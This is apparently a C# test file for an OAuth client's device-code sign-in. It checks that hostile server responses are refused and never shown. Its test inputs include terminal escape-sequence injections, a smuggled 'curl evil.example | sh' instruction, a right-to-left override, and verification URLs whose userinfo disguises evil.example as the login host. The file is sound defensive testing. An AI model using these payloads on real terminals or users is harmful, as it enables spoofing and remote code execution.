using System.Net;
using OAuthClient.Desktop.Tests.Support;

namespace OAuthClient.Desktop.Tests.DeviceCode;

/// <summary>
/// A malicious authorization server's device authorization (RFC 8628 §3.2): what it asks the client to show the user in a
/// terminal must be a short printable code and a verification page that is what it appears to be.
/// </summary>
public sealed class DeviceCodeHostileServerTests : IDisposable
{
    private readonly SignInFixture _fixture = new();
    private readonly List<DeviceCodePrompt> _prompts = [];
    private readonly CancellationTokenSource _cancel = new();

    public void Dispose()
    {
        _cancel.Dispose();
        _fixture.Dispose();
    }

    [Theory]
    [InlineData(@"\u001b]0;pwned\u0007WDJB")]
    [InlineData(@"WDJB\u001b[2J\u001b[1;1H")]
    [InlineData(@"WDJB\nAlso run: curl evil.example | sh")]
    [InlineData(@"WDJB\u202eTHJM")]
    public async Task SignInWithDeviceCodeAsync_UserCodeWithControlCharacters_RefusedNotShown(string userCode)
    {
        Answer(userCode, AuthServerStub.VerificationUri.AbsoluteUri);

        await Assert.ThrowsAsync<TokenRequestException>(() => _fixture.SignIn.SignInWithDeviceCodeAsync(Prompt, _cancel.Token));

        Assert.Empty(_prompts);
    }

    [Fact]
    public async Task SignInWithDeviceCodeAsync_EnormousUserCode_RefusedNotShown()
    {
        Answer(new string('A', 1_000), AuthServerStub.VerificationUri.AbsoluteUri);

        await Assert.ThrowsAsync<TokenRequestException>(() => _fixture.SignIn.SignInWithDeviceCodeAsync(Prompt, _cancel.Token));

        Assert.Empty(_prompts);
    }

    [Theory]
    [InlineData("https://login.example.com@evil.example/device")]
    [InlineData("https://user:pass@login.example.com/device")]
    public async Task SignInWithDeviceCodeAsync_VerificationUriWithUserInfo_RefusedNotShown(string uri)
    {
        Answer("WDJB-MJHT", uri);

        await Assert.ThrowsAsync<TokenRequestException>(() => _fixture.SignIn.SignInWithDeviceCodeAsync(Prompt, _cancel.Token));

        Assert.Empty(_prompts);
    }

    [Fact]
    public async Task SignInWithDeviceCodeAsync_VerificationUriCompleteWithUserInfo_NotShown()
    {
        _fixture.Server.DeviceAuthorizationAnswer = AuthServerStub.Json(HttpStatusCode.OK, $$"""
            {"device_code":"device-code-secret-1","user_code":"WDJB-MJHT","verification_uri":"{{AuthServerStub.VerificationUri}}",
             "verification_uri_complete":"https://login.example.com@evil.example/device?user_code=WDJB-MJHT","expires_in":600}
            """);
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => _fixture.SignIn.SignInWithDeviceCodeAsync(Prompt, _cancel.Token));

        Assert.Null(Assert.Single(_prompts).VerificationUriComplete);
    }

    private void Answer(string userCode, string verificationUri) =>
        _fixture.Server.DeviceAuthorizationAnswer = AuthServerStub.Json(HttpStatusCode.OK, $$"""
            {"device_code":"device-code-secret-1","user_code":"{{userCode}}","verification_uri":"{{verificationUri}}","expires_in":600}
            """);

    // Shown means the test has its answer: the sign-in is cancelled rather than left polling on the fake clock.
    private Task Prompt(DeviceCodePrompt prompt, CancellationToken cancellationToken)
    {
        _prompts.Add(prompt);
        return _cancel.CancelAsync();
    }
}
